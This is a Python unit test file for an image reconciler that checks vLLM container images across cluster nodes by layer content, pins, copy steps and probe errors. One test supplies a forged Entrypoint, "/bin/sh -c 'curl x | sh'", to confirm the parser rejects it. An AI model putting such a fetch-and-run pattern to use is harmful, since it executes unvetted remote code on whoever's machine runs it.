"""The serving image is the same on two nodes when its content is: layers' diff ids and runtime config.

`tests/unit/fixtures/docker-20.10-overlay2-image-inspect.json` is recorded: `docker image inspect
vllm-standin:latest` on the testbed's head (Debian 12's docker.io 20.10.24, overlay2, 2026-12-03). This machine
cannot run Docker's containerd image store (it needs Engine >= 24 with the containerd-snapshotter feature; Debian
12 ships 20.10), so the containerd-store document is derived from that recording by the differences the public
record documents (docs/troubleshooting.md "Image ids"): `Id` is the manifest (or index) digest, not the config's
(moby#48401, docker/cli#5526); a `Descriptor` names that manifest (Engine API ImageInspect, 1.48+);
`GraphDriver.Name` is the snapshotter, `overlayfs`; empty fields are left out (API 1.50 omits them).
"""

from __future__ import annotations

import copy
import json
from pathlib import Path

import pytest

from reconciler.core.drift import diff
from reconciler.core.loader import load_file
from reconciler.core.observed import Image, Observed
from reconciler.core.planning import plan
from reconciler.core.spec import Desired
from reconciler.edge.facts.images import image_from_inspect, parse_image
from tests.unit.edge.test_image_flags import _deployed
from tests.unit.recorded import sections_of

FIXTURES = Path(__file__).parents[1] / "fixtures"

CLASSIC = json.loads((FIXTURES / "docker-20.10-overlay2-image-inspect.json").read_text())[0]
MANIFEST = "sha256:" + "ab" * 32


def containerd_store(doc: dict) -> dict:
    """The same image as Docker's containerd image store shows it after `docker load` (see the module doc)."""
    out = {k: v for k, v in copy.deepcopy(doc).items() if v not in ("", None, [], {}) and k != "ContainerConfig"}
    out["Config"] = {k: v for k, v in out["Config"].items() if v not in ("", None, [], {}, False)}
    out |= {"Id": MANIFEST, "GraphDriver": {"Name": "overlayfs", "Data": None},
            "Descriptor": {"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": MANIFEST,
                           "size": 1234}}
    return out


def test_a_copy_on_the_other_store_has_another_id_and_the_same_content():
    classic, loaded = image_from_inspect(CLASSIC), image_from_inspect(containerd_store(CLASSIC))
    assert classic.id != loaded.id
    assert classic.content == loaded.content
    assert (classic.store, loaded.store) == ("overlay2", "containerd")


@pytest.mark.parametrize("change", [
    lambda d: d["RootFS"]["Layers"].append("sha256:" + "cd" * 32),
    lambda d: d["Config"]["Env"].append("VLLM_X=1"),
    lambda d: d["Config"].__setitem__("Entrypoint", ["/bin/other"]),
    lambda d: d.__setitem__("Architecture", "arm64"),
])
def test_another_image_has_another_content(change):
    other = copy.deepcopy(CLASSIC)
    change(other)
    assert image_from_inspect(other).content != image_from_inspect(CLASSIC).content


def test_the_probe_reads_the_api_object_and_the_cli_array_alike():
    api = parse_image(sections_of("@@image\nAPI " + json.dumps(CLASSIC) + "\n@@rc 0\n")["image"])
    cli = parse_image(sections_of("@@image\n" + json.dumps([CLASSIC], indent=1) + "\n@@rc 0\n")["image"])
    absent = parse_image(sections_of("@@image\n[]\n@@rc 1\n")["image"])
    assert api == cli == image_from_inspect(CLASSIC) and absent is None


def test_an_old_snapshot_holding_only_ids_still_loads():
    old = Image.model_validate("sha256:" + "1" * 64)
    assert old.id == old.content == "sha256:" + "1" * 64


def _cluster(cluster_yaml, seed_snapshot, **serving) -> tuple[Desired, Observed]:
    """Deployed and converged; then the head's image is the recorded classic one and the worker's a containerd-
    store copy of it whose container runs on the worker's own id."""
    desired, observed = _deployed(cluster_yaml, seed_snapshot, **serving)
    ref = desired.serving.image
    head, worker = desired.head.name, next(n.name for n in desired.nodes if n.role == "worker")
    copies = {head: image_from_inspect(CLASSIC), worker: image_from_inspect(containerd_store(CLASSIC))}
    nodes = {}
    for name, node in observed.nodes.items():
        image = copies.get(name)
        if image is None:
            nodes[name] = node
            continue
        containers = [c.model_copy(update={"image_id": image.id}) if c.image == ref else c for c in node.containers]
        nodes[name] = node.model_copy(update={"images": {**node.images, ref: image}, "containers": containers})
    return desired, observed.model_copy(update={"nodes": nodes})


def test_a_copy_on_a_containerd_store_is_converged_not_copied_forever(cluster_yaml, seed_snapshot):
    desired, observed = _cluster(cluster_yaml, seed_snapshot)
    assert [d for d in diff(desired, observed) if d.kind in ("image", "serving")] == []
    assert plan(desired, observed).steps == []


def test_a_worker_copy_with_other_content_is_copied_and_serving_restarts(cluster_yaml, seed_snapshot):
    desired, observed = _cluster(cluster_yaml, seed_snapshot)
    worker = next(n.name for n in desired.nodes if n.role == "worker")
    stale = copy.deepcopy(CLASSIC)
    stale["RootFS"]["Layers"] = stale["RootFS"]["Layers"][:-1]
    images = {desired.serving.image: image_from_inspect(containerd_store(stale))}
    observed = observed.model_copy(update={"nodes": {**observed.nodes, worker: observed.nodes[worker].model_copy(
        update={"images": images})}})
    kinds = [(s.kind, s.node) for s in plan(desired, observed).steps]
    assert ("image", worker) in kinds


def test_a_pin_the_source_does_not_hold_blocks_copy_and_start(cluster_yaml, seed_snapshot):
    pin = "sha256:" + "9" * 64
    desired, observed = _cluster(cluster_yaml, seed_snapshot, image_id=pin)
    head = desired.head.name
    image_drift = [d for d in diff(desired, observed) if d.kind == "image"]
    assert len(image_drift) == 1 and image_drift[0].node == head and image_drift[0].blocking
    assert f"pinned {pin[:19]}" in image_drift[0].expected and "pull the pinned image" in image_drift[0].observed
    worker = next(n.name for n in desired.nodes if n.role == "worker")
    gone = observed.model_copy(update={"nodes": {**observed.nodes, worker: observed.nodes[worker].model_copy(
        update={"images": {}, "containers": []})}})
    result = plan(desired, gone)
    assert not [s for s in result.steps if s.kind in ("image", "start-serving")]
    assert result.blocked


@pytest.mark.parametrize("pin", ["own id", "repo digest"])
def test_a_pin_matches_the_source_by_id_or_repository_digest(cluster_yaml, seed_snapshot, pin):
    digest = "sha256:" + "5" * 64
    desired, observed = _cluster(cluster_yaml, seed_snapshot)
    head = desired.head.name
    image = observed.node(head).images[desired.serving.image].model_copy(
        update={"digests": [f"nvcr.io/nvidia/vllm@{digest}"]})
    observed = observed.model_copy(update={"nodes": {**observed.nodes, head: observed.nodes[head].model_copy(
        update={"images": {desired.serving.image: image}})}})
    value = image.id if pin == "own id" else digest
    pinned = Desired.model_validate(desired.model_dump() | {
        "serving": desired.serving.model_dump() | {"image_id": value}})
    assert [d for d in diff(pinned, observed) if d.kind == "image"] == []


@pytest.mark.parametrize("bad", ["sha256:abc", "latest", "sha256:" + "G" * 64, "md5:" + "0" * 64])
def test_a_pin_must_be_a_sha256_digest(cluster_yaml, seed_snapshot, bad):
    desired, _ = _deployed(cluster_yaml, seed_snapshot)
    with pytest.raises(ValueError, match="image digest"):
        Desired.model_validate(desired.model_dump() | {"serving": desired.serving.model_dump() | {"image_id": bad}})


def test_the_copy_waits_for_the_fabric_it_goes_over(cluster_yaml, seed_snapshot):
    """Seed: the worker's RoCE port is down and it lacks the image. The image now streams head -> worker over the
    fabric, like the weights: its step must come after the worker's link step."""
    desired = Desired.model_validate(load_file(cluster_yaml).data)
    observed = Observed.model_validate(json.loads(seed_snapshot.read_text()))
    steps = {s.id: s for s in plan(desired, observed).steps}
    worker = next(n.name for n in desired.nodes if n.role == "worker")
    assert f"link/{worker}" in steps[f"image/{worker}"].after


def test_an_inspect_without_layers_is_an_image_not_a_probe_failure():
    doc = copy.deepcopy(CLASSIC)
    del doc["RootFS"]
    assert image_from_inspect(doc).id == CLASSIC["Id"]


@pytest.mark.parametrize(("stderr", "absent"), [
    ("Error response from daemon: No such image: nvcr.io/nvidia/vllm:26.05-py3", True),
    ("Cannot connect to the Docker daemon at unix:///var/run/docker.sock", False),
])
def test_only_a_missing_image_is_absent(stderr, absent):
    """A step's re-read of an image (`facts.images.image_fact`): a broken engine is no reason to copy 20 GB."""
    from reconciler.edge.facts.base import ProbeError, Section
    from reconciler.edge.facts.images import image_fact

    fact = image_fact("img")
    if absent:
        assert fact.parse({"image": Section(stderr, 1)}) is None
    else:
        with pytest.raises(ProbeError, match="Cannot connect"):
            fact.parse({"image": Section(stderr, 1)})


# ---------------------------------------------------------------------------------------------- issue 16, finding 3


def _without_image(observed: Observed, node: str, ref: str) -> Observed:
    images = {k: v for k, v in observed.nodes[node].images.items() if k != ref}
    return observed.model_copy(update={"nodes": {**observed.nodes, node: observed.nodes[node].model_copy(
        update={"images": images})}})


def test_a_worker_that_claims_the_image_never_becomes_the_source(cluster_yaml, seed_snapshot):
    """The head lacks the tag, the worker reports it: the worker used to become the source whose `docker save`
    the head loaded. Now nothing is copied: the head (it has internet) pulls it, from the registry."""
    desired, observed = _cluster(cluster_yaml, seed_snapshot)
    observed = _without_image(observed, desired.head.name, desired.serving.image)
    result = plan(desired, observed)
    assert [s for s in result.steps if s.kind == "image"] == []
    assert [(s.kind, s.node) for s in result.steps if s.kind == "pull-image"] == [("pull-image", desired.head.name)]
    assert any(d.kind == "image" and d.actionable and "docker pull" in d.observed for d in result.drift)


def test_a_listed_image_source_may_feed_the_others(cluster_yaml, seed_snapshot):
    desired, observed = _cluster(cluster_yaml, seed_snapshot)
    worker = next(n.name for n in desired.nodes if n.role == "worker")
    listed, _ = _cluster(cluster_yaml, seed_snapshot, image_sources=[desired.head.name, worker])
    observed = _without_image(observed, desired.head.name, desired.serving.image)
    steps = [s for s in plan(listed, observed).steps if s.kind == "image"]
    assert [(s.node, s.params["source"]) for s in steps] == [(desired.head.name, worker)]
    assert steps[0].params["content"] == observed.node(worker).images[desired.serving.image].content


@pytest.mark.parametrize("output,extra", [
    ("Loaded image: nvcr.io/nvidia/vllm:26.05-py3\n", []),
    ("Loaded image: nvcr.io/nvidia/vllm:26.05-py3\nLoaded image: ubuntu:latest\n", ["ubuntu:latest"]),
    ("Loaded image ID: sha256:" + "a" * 64 + "\n", []),
])
def test_docker_load_naming_another_tag_fails_the_copy(output, extra):
    from reconciler.edge.steps.images import unexpected_tags

    assert unexpected_tags(output, "nvcr.io/nvidia/vllm:26.05-py3") == extra
    assert unexpected_tags("Loaded image: vllm-standin:latest\n", "docker.io/library/vllm-standin:latest") == []


def test_the_image_entrypoint_is_read_and_a_forged_one_is_a_probe_failure():
    ngc = copy.deepcopy(CLASSIC)
    ngc["Config"]["Entrypoint"] = ["/opt/nvidia/nvidia_entrypoint.sh"]  # as nvcr.io/nvidia/vllm images carry it
    assert image_from_inspect(ngc).entrypoint == ["/opt/nvidia/nvidia_entrypoint.sh"]
    ngc["Config"]["Entrypoint"] = "/bin/sh -c 'curl x | sh'"
    with pytest.raises(TypeError, match="not an image Entrypoint"):
        image_from_inspect(ngc)


@pytest.mark.parametrize(("entrypoint", "wrapper"), [
    (["/opt/nvidia/nvidia_entrypoint.sh"], ("/opt/nvidia/nvidia_entrypoint.sh",)),  # NGC: ends in exec "$@"
    (["vllm", "serve"], ()),  # vllm/vllm-openai: the Entrypoint is the program itself
    (["/usr/bin/python3", "-m", "vllm.entrypoints.openai.api_server"], ()),
    ([], ()),
])
def test_vllm_serve_runs_under_a_wrapper_entrypoint_only(entrypoint, wrapper):
    from reconciler.core.vllm import serve_wrapper
    assert serve_wrapper(entrypoint) == wrapper
